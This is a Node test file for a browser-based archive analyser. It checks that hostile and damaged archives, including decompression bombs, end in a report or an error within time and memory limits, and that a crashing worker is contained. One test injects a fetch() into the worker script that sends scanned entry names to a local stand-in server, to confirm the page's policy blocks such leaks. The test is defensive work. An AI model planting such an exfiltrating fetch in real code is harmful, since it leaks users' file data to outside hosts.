// Strangers' files in the page: damaged and hostile archives, workers that die, and code that would carry something away.
//
// PLIMSOLL_BAD names the folder that the corpus' make-images makes as `bad`; what its EXPECT.tsv says holds for the page
// as it does for the command. A table of all outcomes is left in build/artifacts/bad-in-page.tsv.
import assert from 'node:assert/strict';
import { copyFileSync, cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs';
import { createServer } from 'node:http';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, test } from 'node:test';

import { analyse, analyseNatively, artifacts, dist, give, launch, openPage, serve } from './support.mjs';

const sample = join(dist, 'sample.tar');
const bad = process.env.PLIMSOLL_BAD ?? '';
const megabytes = 512;  // what any of them may take in the page
const seconds = 120;    // the bombs hold 10 GB and a browser inflates 200 MB/s; the others take less than one

let site, browser;
before(async () => {
  site = await serve();
  browser = await launch();
  mkdirSync(artifacts, { recursive: true });
});
after(async () => {
  await browser.close();
  site.close();
});

// ------------------------------------------------------------------------------------------------ damaged archives

const expectations = (folder) => readFileSync(join(folder, 'EXPECT.tsv'), 'utf8').split('\n')
  .filter((line) => line !== '' && !line.startsWith('#')).map((line) => line.split('\t'));

/** Opens a file or folder: {report}, or the {sentence} that says why there is none; with the seconds and the memory. */
const open = async (page, path) => {
  await give(page, path);
  return page.evaluate(async (limit) => {
    const start = performance.now();
    const late = new Promise((_, reject) => { setTimeout(() => reject(new Error('does not end')), limit * 1000); });
    const outcome = await Promise.race([window.plimsoll.open([...document.getElementById('given').files]), late])
      .then((report) => ({ report }), (error) => ({ sentence: error.message }));
    const { page: ours, worker } = window.plimsoll.memory();
    return { ...outcome, seconds: (performance.now() - start) / 1000, megabytes: (ours + worker) / 1e6 };
  }, seconds);
};

test('damaged and hostile archives end in a report or in a sentence', { skip: bad === '' && 'no damaged archives' }, async () => {
  const page = await openPage(browser, site.url);
  const table = [['archive', 'expected', 'outcome', 'seconds', 'MB', 'message']];
  const wrong = [];
  for (const [name, expected] of expectations(bad)) {
    const path = join(bad, name);
    if (statSync(path).isDirectory() && name.startsWith('empty')) continue;  // a browser hands over no folder without files
    const outcome = await open(page, path);
    const errors = outcome.report?.problems.filter((problem) => problem.severity === 'error') ?? [];
    const refused = outcome.report === undefined || errors.length > 0;
    const message = outcome.sentence ?? errors.map(({ where, message }) => `${where}: ${message}`)[0] ?? '';
    table.push([name, expected, refused ? 'error' : 'ok', outcome.seconds.toFixed(2), Math.round(outcome.megabytes), message]);
    const fault = (what) => wrong.push(`${name}: ${what}`);
    if (expected !== 'any' && (expected === 'error') !== refused) fault(`is ${refused ? 'refused' : 'not refused'}`);
    if (refused && message === '') fault('has no message');
    if (outcome.sentence === 'does not end') fault('does not end');
    if (outcome.megabytes > megabytes) fault(`takes ${outcome.megabytes} MB`);
    if (outcome.report && !name.startsWith('bomb')) {  // those take the command half a minute once more
      try {
        assert.deepEqual(outcome.report, analyseNatively(path));
      } catch (error) {
        fault(`is reported otherwise than by the command: ${error.message.slice(0, 300)}`);
      }
    }
  }
  writeFileSync(join(artifacts, 'bad-in-page.tsv'), table.map((row) => row.join('\t')).join('\n') + '\n');
  assert.deepEqual(wrong, []);
  assert.ok(table.length > 80);
  assert.equal((await analyse(page, sample)).source.name, 'sample.tar');
  assert.deepEqual(page.complaints, []);
  await page.close();
});

// ------------------------------------------------------------------------------------------------ workers that die

/** Calls body(page) with a build of the site in which some files are other ones: {name: (text) => text}. */
const withAlteredSite = async (changes, body) => {
  const folder = mkdtempSync(join(tmpdir(), 'plimsoll-site-'));
  cpSync(dist, folder, { recursive: true });
  for (const [name, change] of Object.entries(changes)) {
    const text = readFileSync(join(dist, name), 'utf8');
    assert.notEqual(change(text), text);
    writeFileSync(join(folder, name), change(text));
  }
  const altered = await serve(folder);
  const page = await openPage(browser, altered.url);
  try {
    await body(page);
  } finally {
    await page.close();
    altered.close();
    rmSync(folder, { recursive: true });
  }
};

const alsoRunning = (code) => (text) => `${text}\n${code}`;

test('a worker that dies takes one layer with it, and the next file opens', async () => {
  const dies = alsoRunning(`
    const answer = onmessage;
    onmessage = (event) => {
      if (event.data.op === 'scan' && event.data.number === 1 && event.data.file.name === 'given.tar')
        throw new RangeError('Out of memory');
      answer(event);
    };`);
  await withAlteredSite({ 'worker.js': dies }, async (page) => {
    const path = join(artifacts, 'given.tar');
    copyFileSync(sample, path);
    const report = await analyse(page, path);
    const incomplete = report.layers.filter((layer) => !layer.complete);
    assert.equal(incomplete.length, 1);
    assert.ok(report.layers.length > 1);
    const problem = report.problems.find(({ where }) => where === `layer ${incomplete[0].index + 1}`);
    assert.match(problem.message, /Out of memory/);
    const again = await analyse(page, sample);
    assert.ok(again.layers.every((layer) => layer.complete));
  });
});

// ------------------------------------------------------------------------------------------- what leaves the page

/** Analyses the sample in a site whose workers would tell a stranger of it; the requests that reach that one. */
const carriedAway = async (otherChanges) => {
  const requests = [];
  const stranger = createServer((request, response) => {
    requests.push(request.url);
    response.writeHead(200, { 'Access-Control-Allow-Origin': '*' }).end();
  });
  await new Promise((resolve) => { stranger.listen(0, '127.0.0.1', resolve); });
  const url = `http://127.0.0.1:${stranger.address().port}/`;
  const tells = alsoRunning(`
    addEventListener('message', ({ data }) => {
      if (data.op === 'scan') fetch('${url}?' + data.blob.entry).catch(() => {});
    });`);
  try {
    await withAlteredSite({ 'worker.js': tells, ...otherChanges }, async (page) => {
      await analyse(page, sample);
      await page.waitForTimeout(500);
    });
  } finally {
    stranger.close();  // an open one would keep the tests from ending
  }
  return requests;
};

test('what a worker would send to another host does not leave', async () => {
  assert.deepEqual(await carriedAway({}), []);
});

test('that check sees a leak where workers start from a file, which the page\'s policy does not bind', async () => {
  const requests = await carriedAway({
    'workers.js': (text) => text.replace(/new Worker\(\w+\)/, "new Worker(new URL('worker.js', import.meta.url))"),
  });
  assert.notDeepEqual(requests, []);
});
